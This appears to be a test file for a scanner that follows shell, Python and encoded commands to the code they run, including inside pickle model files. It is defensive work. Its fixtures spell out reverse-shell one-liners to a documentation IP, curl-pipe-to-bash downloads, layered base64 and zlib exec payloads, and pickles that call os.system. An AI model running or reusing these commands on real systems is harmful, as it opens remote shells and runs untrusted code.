import { deflateSync, gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import {
  base64Text,
  mostLayers,
  pythonText,
  shellText,
} from "../../../server/src/facts/weights/command-text.ts";
import { shellCommands } from "../../../server/src/facts/weights/shell-words.ts";
import { workspace } from "../../harness/check.ts";
import * as digits from "../../harness/digits.ts";
import * as p from "../../harness/pickle.ts";

const base64 = (text: string, encoding: BufferEncoding = "utf8") =>
  Buffer.from(text, encoding).toString("base64");

const packed = (bytes: Buffer) => bytes.toString("base64");

/** The layers and what runs, as one line; `-` before what any data may hold. */
function followed(text: string): string | undefined {
  const found = shellText(text) ?? pythonText(text) ?? base64Text(text);
  return found && `${found.strong ? "" : "- "}${[...found.layers, found.text].join(" > ")}`;
}

test("a text is split as a shell splits it", () => {
  const words = (text: string) => shellCommands(text).map((one) => [one.piped ? "|" : "", ...one.words]);
  expect(words(`a 'b c' "d \\"e" f\\ g "" && h;i | j || k 2>&1`)).toEqual([
    ["", "a", "b c", 'd "e', "f g", ""],
    ["", "h"],
    ["", "i"],
    ["|", "j"],
    ["", "k", "2>&1"],
  ]);
  expect(words("C:\\Tools\\x.exe 'not closed ; a")).toEqual([["", "C:\\Tools\\x.exe", "not closed ; a"]]);
});

describe("a command in a text is followed to what runs", () => {
  const python = "import os; os.system('id')";
  test.each([
    ["sh -c 'ls -l'", "- sh -c > ls -l"],
    [`python3 -c "${python}"`, `python3 -c > ${python}`],
    [`cd /tmp && sudo /usr/bin/python3.11 -u -c "${python}"`, `python3.11 -c > ${python}`],
    [`sh -c "python -c '__import__(0)'"`, "sh -c > python -c > __import__(0)"],
    [
      `python -c "import base64; exec(base64.b64decode('${base64(python)}'))"`,
      `python -c > base64 > ${python}`,
    ],
    [`import base64\nexec(base64.b64decode(b"${base64(python)}"))`, `base64 > ${python}`],
    [`exec(base64.b85decode("${digits.base85(Buffer.from(python))}"))`, `base85 > ${python}`],
    [`exec(base64.b32decode("${digits.base32(Buffer.from(python))}"))`, `base32 > ${python}`],
    [
      `exec(base64.a85decode('''${digits.base85(Buffer.from("print(1)"), digits.ascii85)}'''))`,
      "ascii85 > print(1)",
    ],
    [
      `exec(zlib.decompress(base64.b85decode("${digits.base85(deflateSync(python))}")))`,
      `base85 → zlib > ${python}`,
    ],
    [`exec(binascii.a2b_uu("${digits.uu(Buffer.from("print(10)"))}"))`, "uu > print(10)"],
    [`exec(bytes.fromhex("${Buffer.from(python).toString("hex")}"))`, `hex > ${python}`],
    [
      `import zlib; exec(zlib.decompress(base64.b64decode("${packed(deflateSync(python))}")))`,
      `base64 → zlib > ${python}`,
    ],
    [
      `import gzip; exec(gzip.decompress(base64.b64decode("${packed(gzipSync(python))}")))`,
      `base64 → gzip > ${python}`,
    ],
    [
      `import zlib; exec(zlib.decompress(base64.b64decode("${packed(deflateSync(base64(python)))}")))`,
      `base64 → zlib > ${python}`,
    ],
    [
      `import zlib; exec(zlib.decompress(bytes.fromhex("${deflateSync(deflateSync(python)).toString("hex")}")))`,
      `hex → zlib → zlib > ${python}`,
    ],
    [`import subprocess; subprocess.run(["sh", "-c", "id"])`, "sh -c > id"],
    [`echo ${base64("curl a.example | sh")} | base64 -d | bash`, "base64 | bash > curl a.example | sh"],
    [base64("curl a.example/x | sh"), "base64 > curl a.example/x | sh"],
    ["curl -s https://a.example/x | sudo bash", "curl -s https://a.example/x | sudo bash"],
    ["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
    ["nc -e /bin/sh 192.0.2.1 4444", "nc -e /bin/sh 192.0.2.1 4444"],
    [`powershell.exe -NoP -enc ${base64("whoami", "utf16le")}`, "powershell -enc > whoami"],
    ["cmd.exe /c \"python -c 'eval(1)'\"", "cmd /c > python -c > eval(1)"],
    ["perl -e 'system(1)'", "perl -e > system(1)"],
  ])("%s", (text, wanted) => expect(followed(text)).toBe(wanted));

  test.each([
    "The model was trained with Python and a shell.",
    "bash scripts/train.sh",
    "python train.py -c config.yaml",
    "import torch\nmodel = torch.nn.Linear(1, 2)",
    "cat a | sort | uniq -c",
    "R&D; sales | support (2023)",
    "YWJjZGVmZ2hpamtsbW5vcA==",
    "",
  ])("nothing is said of %j", (text) => expect(followed(text)).toBeUndefined());

  test("to a stated depth", () => {
    let text = "id";
    for (let layer = 0; layer < 12; layer += 1) text = `echo ${base64(text)} | base64 -d | sh`;
    const found = shellText(text);
    expect(found?.layers.at(-1)).toBe("more layers, not followed");
    expect(found?.layers.length).toBe(mostLayers + 1);
  });
});

describe("in a pickle", () => {
  const found = async (bytes: Uint8Array) => {
    const { findings } = await workspace({ "/project/model.pkl": bytes }).check("/project/model.pkl");
    return findings.map(({ severity, message }) => `${severity}: ${message}`).join("\n");
  };
  const reverse = p.text("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1");
  const unknown = p.stackGlobal("acme.tools", "Task");
  const key = `${"sk"}-${"a1B2".repeat(8)}`;

  test("the call that runs it is the one that is shown, and keys in it are masked", async () => {
    const os = p.global("os", "system");
    const text = p.text(`sh -c "curl -H ${key} https://me:pass@a.example | sh"`);
    const message = await found(p.file(p.call(os, p.text("ls")), p.pop, p.call(os, text)));
    expect(message).toContain("calls `os.system('sh -c ");
    expect(message).toContain("It runs: `sh -c` → `curl -H ");
    expect(message).not.toContain(key);
  });

  test("an import that is not known is called with it", async () => {
    const message = await found(p.file(p.call(unknown, p.text(`python3 -c "import os; os.system('id')"`))));
    expect(message).toContain("error: Loading this file calls `acme.tools.Task(");
    expect(message).toContain("is handed a text that is code or a command");
    expect(message).toContain("`python3 -c` → `import os; os.system('id')`");
  });

  test("or stands beside it, in a state or anywhere else", async () => {
    for (const bytes of [
      p.file(p.build(p.newobj(unknown), p.dict([p.text("callback"), reverse]))),
      p.file(p.tuple(p.newobj(unknown), p.list(reverse))),
    ]) {
      expect(await found(bytes)).toContain(
        "The file also holds a command, which runs if it is given to a shell: `bash -i",
      );
    }
  });

  test("prose and source beside it are data", async () => {
    const source = p.text("import os\n\ndef list_files():\n    return os.system('ls')\n");
    const bytes = p.file(p.build(p.newobj(unknown), p.dict([p.text("source"), source])));
    expect(await found(bytes)).not.toContain("holds a command");
  });

  test("where every import is known to be harmless, it is data too", async () => {
    expect(await found(p.file(p.call(p.stackGlobal("collections", "OrderedDict"), p.list(reverse))))).toBe(
      "",
    );
    expect(await found(p.file(p.list(reverse)))).toBe("");
  });
});
